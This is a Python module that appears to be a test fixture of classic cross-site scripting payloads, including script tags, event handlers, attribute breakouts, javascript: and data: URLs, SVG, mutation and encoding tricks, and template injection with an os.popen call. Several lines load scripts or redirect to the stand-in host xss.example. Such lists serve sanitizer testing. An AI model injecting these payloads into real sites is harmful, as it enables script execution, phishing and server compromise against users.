"""Texts that make a careless page run a script: the classical kinds, each with a mark.

Whatever one of them injects has `xss` for its name, id or address, or calls `alert`.
"""

TAGS = (
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    "<script/xss src='/xss.js'></script>",
    "<script\n>alert('xss')</script\n>",
    "</title><script>alert('xss')</script>",
    "</textarea><script>alert('xss')</script>",
    "</option></select><script>alert('xss')</script>",
    "--><script>alert('xss')</script><!--",
    "]]><script>alert('xss')</script>",
    "<iframe id=xss srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe id=xss src=javascript:alert(1)></iframe>",
    "<object id=xss data=javascript:alert(1)></object>",
    "<embed id=xss src=/xss.swf>",
    "<base id=xss href=//xss.example/>",
    "<meta id=xss http-equiv=refresh content='0;url=//xss.example'>",
    "<link id=xss rel=stylesheet href=//xss.example/xss.css>",
    "<style id=xss>@import '//xss.example/xss.css'</style>",
    "<form id=xss action=//xss.example><button>Sign in</button></form>",
    "<xss id=xss tabindex=1 onfocus=alert(1) autofocus>",
)
EVENTS = (
    "<img id=xss src=/xss onerror=alert(1)>",
    "<IMG ID=xss SRC=/xss OnErRoR=alert(1)>",
    '<img id=xss """><script>alert("xss")</script>">',
    "<img/id=xss/src=/xss/onerror=alert(1)>",
    "<img id=xss src=/xss onerror=\u0026#97;\u0026#108;ert(1)>",
    "<body id=xss onload=alert(1)>",
    "<input id=xss onfocus=alert(1) autofocus>",
    "<select id=xss onfocus=alert(1) autofocus>",
    "<details id=xss open ontoggle=alert(1)>",
    "<video id=xss><source onerror=alert(1)></video>",
    "<audio id=xss src=/xss onerror=alert(1)>",
    "<marquee id=xss onstart=alert(1)>",
    "<a id=xss onmouseover=alert(1)>here</a>",
    "<div id=xss style='animation-name:x' onanimationstart=alert(1)>",
    "<button id=xss popovertarget=x onclick=alert(1)>",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)" id="xss',
    "' onmouseover='alert(1)' id='xss",
    '" autofocus onfocus="alert(1)" id="xss',
    '"><img id=xss src=/xss onerror=alert(1)>',
    "'><img id=xss src=/xss onerror=alert(1)>",
    "` onmouseover=alert(1) id=xss `",
    '" style="background:url(//xss.example/xss)" id="xss',
    '" hx-get="/xss" hx-trigger="load" id="xss',
    '" hx-on:click="alert(1)" id="xss',
    '"/><input id="xss" name="csrf_token" value="x',
)
ADDRESSES = (
    "javascript:alert('xss')",
    "JaVaScRiPt:alert('xss')",
    "java\tscript:alert('xss')",
    "javascript://%0aalert('xss')",
    "data:text/html,<script>alert('xss')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=",
    "vbscript:msgbox('xss')",
    "//xss.example/%2e%2e",
    "<a id=xss href=javascript:alert(1)>Your bank</a>",
)
SVG = (
    "<svg id=xss onload=alert(1)>",
    "<svg><script id=xss>alert(1)</script></svg>",
    "<svg><animate id=xss onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a id=xss xlink:href=javascript:alert(1)><text y=20>here</text></a></svg>",
    "<svg><use id=xss href=data:image/svg+xml,xss></svg>",
    "<svg><foreignObject><iframe id=xss src=javascript:alert(1)></iframe></foreignObject></svg>",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img id=xss src=/xss onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img id=xss src=/xss onerror=alert(1)>",
    "<template><img id=xss src=/xss onerror=alert(1)></template>",
    "<svg></p><style><a id='</style><img id=xss src=/xss onerror=alert(1)>'>",
    "<listing>&lt;img id=xss src=/xss onerror=alert(1)&gt;</listing>",
    "<hx-partial hx-target=body><img id=xss src=/xss onerror=alert(1)></hx-partial>",
)
TEMPLATES = (
    "{{ 7 * 7 }}<i id=xss>",
    "{% import os %}{{ cycler.__init__.__globals__.os.popen('xss') }}",
    "${alert('xss')}",
    "#{alert('xss')}<i id=xss>",
    "<%= alert('xss') %>",
)
UNICODE = (
    "\uff1cscript\uff1ealert('xss')\uff1c/script\uff1e",
    "\u02bb\u02ba\u203a\u2039img id=xss src=/xss onerror=alert(1)",
    "+ADw-script+AD4-alert('xss')+ADw-/script+AD4-",
    "&lt;img id=xss src=/xss onerror=alert(1)&gt;",
    "&#60;img id=xss src=/xss onerror=alert(1)&#62;",
    "\\u003cimg id=xss src=/xss onerror=alert(1)\\u003e",
    "%3Cimg%20id=xss%20src=/xss%20onerror=alert(1)%3E",
    "\u202e<img id=xss src=/xss onerror=alert(1)>",
)

PAYLOADS = (
    *TAGS, *EVENTS, *ATTRIBUTES, *ADDRESSES, *SVG, *MUTATIONS, *TEMPLATES, *UNICODE,
)  # fmt: skip
